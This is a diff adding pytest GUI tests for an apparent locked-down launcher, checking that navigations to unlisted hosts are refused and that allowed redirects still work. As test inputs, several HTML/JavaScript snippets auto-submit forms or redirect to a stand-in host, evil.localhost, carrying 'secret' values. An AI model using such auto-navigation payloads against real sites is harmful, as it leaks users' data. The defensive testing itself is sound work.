@@ -1,0 +1,103 @@
+"""Main-frame navigations to unlisted hosts never leave the window: the hostile server sees nothing."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.launcher.conftest import run_scenario
+from tests.launcher.harness import visible_windows, xdotool
+
+pytestmark = pytest.mark.gui
+
+
+@pytest.fixture
+def evil(fake_sites):
+    fake_sites.page("evil.localhost", "/page", "<h1>evil</h1>")
+    return fake_sites.url("evil.localhost", "/page")
+
+
+def refused(launcher, fake_sites, html):
+    mark = run_scenario(launcher, fake_sites, html)
+    launcher.wait_event("navigation_refused", since=mark)
+    return mark
+
+
+def test_link_click_to_unlisted_host_is_refused(launcher, fake_sites, evil):
+    refused(launcher, fake_sites, f"<a id=a href='{evil}'>x</a>"
+                                  "<script>onload=()=>document.getElementById('a').click()</script>")
+    assert fake_sites.requests("evil.localhost") == []
+
+
+def test_location_change_to_unlisted_host_is_refused(launcher, fake_sites, evil):
+    refused(launcher, fake_sites, f"<script>onload=()=>{{location.href='{evil}'}}</script>")
+    assert fake_sites.requests("evil.localhost") == []
+
+
+@pytest.mark.parametrize("method", ["get", "post"])
+def test_form_submission_to_unlisted_host_is_refused(launcher, fake_sites, evil, method):
+    refused(launcher, fake_sites, f"<form id=f method={method} action='{evil}'>"
+                                  "<input name=q value=secret></form>"
+                                  "<script>onload=()=>document.getElementById('f').submit()</script>")
+    assert fake_sites.requests("evil.localhost") == []
+
+
+def test_meta_refresh_to_unlisted_host_is_refused(launcher, fake_sites, evil):
+    refused(launcher, fake_sites, f"<meta http-equiv=refresh content='0;url={evil}'>")
+    assert fake_sites.requests("evil.localhost") == []
+
+
+def test_redirect_to_unlisted_host_is_blocked_at_the_hop(launcher, fake_sites, evil):
+    hop = fake_sites.redirect("caf.localhost", "/redir", evil)
+    mark = refused(launcher, fake_sites,
+                   f"<script>onload=()=>{{location.href='{hop}'}}</script>")
+    assert fake_sites.requests("caf.localhost", "/redir")
+    assert fake_sites.requests("evil.localhost") == []
+    assert launcher.kinds(mark).count("navigation_refused") == 1
+
+
+def test_redirect_chain_within_allowed_hosts_is_followed(launcher, fake_sites):
+    target = fake_sites.page("caf.localhost", "/arrived", "<h1>ok</h1>")
+    via_fc = fake_sites.redirect("franceconnect.localhost", "/login", target)
+    start = fake_sites.redirect("caf.localhost", "/start", via_fc)
+    mark = run_scenario(launcher, fake_sites, f"<script>onload=()=>{{location.href='{start}'}}</script>")
+    fake_sites.wait_for("caf.localhost", "/arrived")
+    event = launcher.wait_event("navigation_allowed", since=mark, site_id="caf")
+    assert event.detail is None
+    assert "navigation_refused" not in launcher.kinds(mark)
+
+
+def test_window_open_to_unlisted_host_is_refused(launcher, fake_sites, evil, display):
+    before = visible_windows(launcher, display)
+    refused(launcher, fake_sites, f"<script>onload=()=>window.open('{evil}')</script>")
+    assert fake_sites.requests("evil.localhost") == []
+    assert visible_windows(launcher, display) == before
+
+
+def test_target_blank_to_allowed_host_opens_in_the_same_window(launcher, fake_sites, display):
+    before = visible_windows(launcher, display)
+    target = fake_sites.page("caf.localhost", "/blank", "<h1>caf</h1>")
+    mark = run_scenario(launcher, fake_sites,
+                        f"<a id=a target=_blank href='{target}'>x</a>"
+                        "<script>onload=()=>document.getElementById('a').click()</script>")
+    fake_sites.wait_for("caf.localhost", "/blank")
+    launcher.wait_event("navigation_allowed", since=mark, site_id="caf")
+    assert visible_windows(launcher, display) == before
+    assert not (launcher.bin / "xdg-open.calls").exists()
+
+
+def test_events_carry_no_url(launcher, fake_sites, evil):
+    refused(launcher, fake_sites, f"<script>onload=()=>{{location.href='{evil}?q=secret'}}</script>")
+    assert all("localhost:" not in line and "secret" not in line for line in launcher.raw_lines)
+
+
+def test_refused_page_offers_a_way_back_home(launcher, fake_sites, evil, display):
+    caf = fake_sites.page("caf.localhost", "/form", f"<a id=a href='{evil}'>x</a><script>"
+                          "onload=()=>setTimeout(()=>document.getElementById('a').click(),100)"
+                          "</script>")
+    mark = run_scenario(launcher, fake_sites, f"<script>onload=()=>{{location.href='{caf}'}}</script>")
+    launcher.wait_event("navigation_refused", since=mark, site_id="caf")
+    homes = len(fake_sites.requests("portal.localhost", "/"))
+    xdotool("mousemove", "640", "500", display=display)
+    xdotool("key", "Tab", "Return", display=display)  # "Revenir" has focus; Tab to "Accueil"
+    fake_sites.wait_for("portal.localhost", "/", count=homes + 1)
+    assert fake_sites.requests("evil.localhost") == []
